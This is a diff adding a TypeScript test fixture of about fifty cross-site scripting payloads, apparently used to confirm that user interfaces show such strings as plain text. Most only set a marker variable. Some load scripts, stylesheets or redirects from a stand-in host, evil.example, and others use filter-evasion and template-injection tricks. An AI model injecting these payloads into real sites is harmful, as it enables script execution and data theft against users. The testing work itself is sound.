@@ -1,0 +1,61 @@
+/** Texts that would run, load or lead somewhere if any screen took them for more than text. Each runs `hit`. */
+const hit = 'window.__hit=1'
+
+const payloads = [
+  `<script>${hit}</script>`,
+  `"><script>${hit}</script>`,
+  `'><script>${hit}</script>`,
+  `</title><script>${hit}</script>`,
+  `</textarea><script>${hit}</script>`,
+  `</style><script>${hit}</script>`,
+  `</script><script>${hit}</script>`,
+  `<ScRiPt>${hit}</sCrIpT>`,
+  `<scr<script>ipt>${hit}</scr</script>ipt>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<script type="module">${hit}</script>`,
+  `<img src=x onerror=${hit}>`,
+  `"><img src=x onerror="${hit}">`,
+  `<img src="javascript:${hit}">`,
+  `<img src=https://evil.example/pixel.png>`,
+  `<img/src/onerror=${hit}>`,
+  `<svg onload=${hit}>`,
+  `<svg/onload="${hit}"//`,
+  `<svg><script>${hit}</script></svg>`,
+  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${hit}"><text y=20>Click</text></a></svg>`,
+  `<math><mi xlink:href="javascript:${hit}">x</mi></math>`,
+  `<body onload=${hit}>`,
+  `<iframe src="javascript:${hit}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
+  `<object data="javascript:${hit}"></object>`,
+  `<embed src="data:text/html,<script>${hit}</script>">`,
+  `<a href="javascript:${hit}">Click</a>`,
+  `<a href="data:text/html,<script>${hit}</script>">Click</a>`,
+  `<form action="javascript:${hit}"><button>Send</button></form>`,
+  `<button formaction="javascript:${hit}">Send</button>`,
+  `<input autofocus onfocus=${hit}>`,
+  `<select autofocus onfocus=${hit}><option>x</select>`,
+  `<details open ontoggle=${hit}><summary>x</summary></details>`,
+  `<video><source onerror=${hit}></video>`,
+  `<audio src=x onerror=${hit}>`,
+  `<marquee onstart=${hit}>x</marquee>`,
+  `<div style="background:url(https://evil.example/x)">x</div>`,
+  `<style>@import "https://evil.example/x.css";</style>`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
+  `<template><script>${hit}</script></template>`,
+  `javascript:${hit}`,
+  `JaVaScRiPt:${hit}//https://example.com`,
+  `data:text/html,<script>${hit}</script>`,
+  `vbscript:${hit}`,
+  `https://example.com/" onmouseover="${hit}`,
+  `{{constructor.constructor('${hit}')()}}`,
+  `\${${hit}}`,
+] as const
+
+/** The payloads, each with a number before it, so that what is shown can be told apart. */
+export const numbered: readonly string[] = payloads.map((text, at) => `#${at} ${text}`)
+
+/** The payloads as they are: what begins a link must begin the value. */
+export const bare: readonly string[] = payloads
